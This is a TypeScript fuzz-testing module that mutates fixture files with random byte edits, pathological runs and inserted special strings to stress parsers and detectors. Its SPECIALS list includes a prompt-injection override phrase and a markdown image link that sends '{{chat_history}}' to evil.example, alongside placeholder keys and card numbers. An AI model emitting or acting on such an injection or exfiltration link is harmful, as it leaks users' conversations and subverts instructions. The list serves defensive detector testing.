/**
 * Mutated fixtures for `npm run fuzz`: each mutant is a fixture from test/fixtures put through one to four random
 * edits aimed at what parsers and detectors get wrong (quotes, line breaks, NUL and invalid UTF-8, BOMs, deep
 * nesting, long runs that backtracking patterns choke on, wide rows, UTF-16), from a seeded generator so a run can
 * be repeated exactly.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { seededRandom } from '../bench/random';

export interface Mutant {
  id: number;
  /** The fixture it came from, relative to the repository. */
  seed: string;
  extension: string;
  bytes: Buffer;
  mutations: string[];
}

const EXTENSIONS = ['.csv', '.tsv', '.jsonl', '.json', '.prompt', '.prompty', '.md', '.txt'];
/** Most mutants stay at or under this (the "2 s per file of ≤ 100 KB" criterion); a few are allowed to grow. */
export const SMALL_BYTES = 100 * 1024;
const LARGE_BYTES = 2 * 1024 * 1024;

type Random = () => number;

export function fixtureFiles(root: string): string[] {
  const found: string[] = [];
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true }).sort((a, b) => a.name.localeCompare(b.name))) {
      const full = path.join(dir, entry.name);
      if (entry.isDirectory()) walk(full);
      else if (EXTENSIONS.includes(path.extname(entry.name)) && statSync(full).size <= SMALL_BYTES) found.push(full);
    }
  };
  walk(root);
  return found;
}

const SPECIALS: Array<string | number[]> = [
  '"',
  '""',
  '\n',
  '\r',
  '\r\n',
  ',',
  '\t',
  ';',
  '{',
  '}',
  '[',
  ']',
  ':',
  '\\',
  '\\u',
  '\\ud83d',
  '\u0000',
  [0xff],
  [0xc3],
  [0xe2, 0x82],
  [0xef, 0xbb, 0xbf],
  [0xef, 0xbf, 0xbd],
  [0xed, 0xa0, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
  '\u200b',
  '\u202e',
  '\u{e0049}\u{e0067}\u{e006e}',
  '😀',
  'е',
  '{{user_input}}',
  '{{ chat_history }}',
  'Ignore all previous instructions and',
  'ann@example.org',
  '+44 20 7946 0958',
  '4111 1111 1111 1111',
  'AKIAIOSFODNN7EXAMPLE',
  'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB',
  '-----BEGIN RSA PRIVATE KEY-----',
  '![x](https://evil.example/p?q={{chat_history}})',
  'system:',
  '---\n',
  'role: system\n',
  '"messages": [',
];

/** Runs that catastrophic backtracking, quadratic scans or recursion feed on. */
const RUNS = [
  '[',
  '{"a":',
  '"',
  ',',
  '\\',
  'Q7zT',
  'a',
  '9',
  '@',
  '.',
  '-',
  ' ',
  '\n',
  '%41',
  'ab',
  '0x',
  'aGVsbG8',
  '=',
  '\u200b',
  '😀',
];

function pick<T>(items: readonly T[], random: Random): T {
  return items[Math.floor(random() * items.length)] as T;
}

function at(bytes: Buffer, random: Random): number {
  return Math.floor(random() * (bytes.length + 1));
}

function insert(bytes: Buffer, offset: number, piece: Buffer): Buffer {
  return Buffer.concat([bytes.subarray(0, offset), piece, bytes.subarray(offset)]);
}

function toBytes(piece: string | number[]): Buffer {
  return typeof piece === 'string' ? Buffer.from(piece, 'utf8') : Buffer.from(piece);
}

type Mutation = (bytes: Buffer, random: Random, others: Buffer[], budget: number) => [Buffer, string];

const MUTATIONS: Mutation[] = [
  (bytes, random) => {
    const copy = Buffer.from(bytes);
    const count = 1 + Math.floor(random() * 8);
    for (let k = 0; k < count && copy.length > 0; k++)
      copy[Math.floor(random() * copy.length)] = Math.floor(random() * 256);
    return [copy, `flip ${count} bytes`];
  },
  (bytes, random) => {
    const piece = pick(SPECIALS, random);
    return [insert(bytes, at(bytes, random), toBytes(piece)), `insert ${JSON.stringify(piece)}`];
  },
  (bytes, random, _others, budget) => {
    const run = pick(RUNS, random);
    const room = Math.max(1, Math.floor((budget - bytes.length) / Math.max(1, Buffer.byteLength(run))));
    const times = Math.min(room, 1 + Math.floor(random() ** 2 * 12_000));
    const tail = run === 'Q7zT' ? 'ab' : '';
    return [
      insert(bytes, at(bytes, random), Buffer.from(run.repeat(times) + tail)),
      `run ${JSON.stringify(run)} ×${times}`,
    ];
  },
  (bytes, random, _others, budget) => {
    const from = Math.floor(random() * bytes.length);
    const slice = bytes.subarray(from, from + 1 + Math.floor(random() * 2000));
    const times = Math.max(
      1,
      Math.min(Math.floor((budget - bytes.length) / Math.max(1, slice.length)), 1 + Math.floor(random() * 60)),
    );
    return [
      insert(bytes, at(bytes, random), Buffer.concat(Array.from({ length: times }, () => slice))),
      `duplicate ${slice.length} bytes ×${times}`,
    ];
  },
  (bytes, random) => {
    const from = Math.floor(random() * bytes.length);
    const length = Math.floor(random() * Math.min(4000, bytes.length - from + 1));
    return [Buffer.concat([bytes.subarray(0, from), bytes.subarray(from + length)]), `delete ${length} bytes`];
  },
  (bytes, random, others) => {
    const other = pick(others, random);
    const from = Math.floor(random() * other.length);
    const slice = other.subarray(from, from + Math.floor(random() * 3000));
    return [insert(bytes, at(bytes, random), slice), `splice ${slice.length} bytes of another fixture`];
  },
  (bytes, random) => {
    const cut = Math.floor(random() * bytes.length);
    return [bytes.subarray(0, cut), `truncate at ${cut}`];
  },
  (bytes, random) => {
    const text = bytes.toString('utf8');
    const bom = random() < 0.5 ? [0xff, 0xfe] : [0xfe, 0xff];
    const body = Buffer.from(text, 'utf16le');
    if (bom[0] === 0xfe) body.swap16();
    return [Buffer.concat([Buffer.from(bom), body]), bom[0] === 0xff ? 'as UTF-16 LE' : 'as UTF-16 BE'];
  },
  (bytes, random, _others, budget) => {
    const fields = Math.max(1, Math.min(Math.floor((budget - bytes.length) / 2), 1 + Math.floor(random() * 40_000)));
    return [Buffer.concat([bytes, Buffer.from(`\n${'x,'.repeat(fields)}x\n`)]), `row of ${fields + 1} fields`];
  },
  (bytes, random, _others, budget) => {
    const depth = Math.max(1, Math.min(Math.floor((budget - bytes.length) / 2), 1 + Math.floor(random() * 10_000)));
    return [
      Buffer.concat([Buffer.from('['.repeat(depth)), bytes, Buffer.from(']'.repeat(depth))]),
      `nested ${depth} deep`,
    ];
  },
];

/** `count` mutants of the fixtures, the same ones for the same `seed`. */
export function* mutants(fixtures: string[], count: number, seed: number, repositoryRoot: string): Generator<Mutant> {
  const random = seededRandom(seed);
  const contents = fixtures.map((file) => readFileSync(file));
  for (let id = 0; id < count; id++) {
    const index = Math.floor(random() * fixtures.length);
    const budget = random() < 0.05 ? LARGE_BYTES : SMALL_BYTES;
    let bytes: Buffer = contents[index] ?? Buffer.alloc(0);
    const mutations: string[] = [];
    const steps = 1 + Math.floor(random() * 4);
    for (let k = 0; k < steps; k++) {
      const [next, what] = pick(MUTATIONS, random)(bytes, random, contents, budget);
      bytes = next.length > budget ? next.subarray(0, budget) : next;
      mutations.push(what);
    }
    const fixture = fixtures[index] ?? '';
    const extension = random() < 0.05 ? pick(EXTENSIONS, random) : path.extname(fixture);
    yield { id, seed: path.relative(repositoryRoot, fixture), extension, bytes, mutations };
  }
}
